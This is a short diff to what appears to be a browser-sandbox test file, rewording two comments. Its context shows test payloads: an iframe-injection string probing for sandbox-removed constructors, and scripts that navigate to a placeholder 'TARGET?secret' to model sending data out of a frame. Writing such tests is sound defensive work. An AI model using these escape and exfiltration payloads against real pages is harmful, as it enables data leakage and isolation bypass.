@@ -68,7 +68,7 @@ await attempt('BroadcastChannel', () => new Promise((resolve, reject) => {
 console.log('all attempted');
 `;
 
-/** Attempts to create a child frame. It would still have the constructors that the sandbox removes. */
+/** Attempts to create a child frame, which would still have the constructors that the sandbox removes. */
 const CHILDREN = `
 const SCRIPT = '<script>parent.postMessage("child ran " + typeof RTCPeerConnection, "*")</' + 'script>';
 const waitForChild = (make, root = document.body) => new Promise((resolve, reject) => {
@@ -111,7 +111,7 @@ export const CHILD_ATTACK = `<p>attack</p><iframe srcdoc="<script>parent.postMes
 <script type="module">addEventListener('message', ({ data }) => { if (data === 'static child') console.log('static child: ALLOWED'); });
 ${HELPERS}${CHILDREN}</script>`;
 
-/** Ways for a frame to send data to another address, usually by navigating there. */
+/** Ways for a frame to send data to another URL, usually by navigating to it. */
 export const DEPARTURES = {
   'location.href': `<script>location.href = 'TARGET?secret';</script>`,
   'location.replace': `<script>location.replace('TARGET?secret');</script>`,
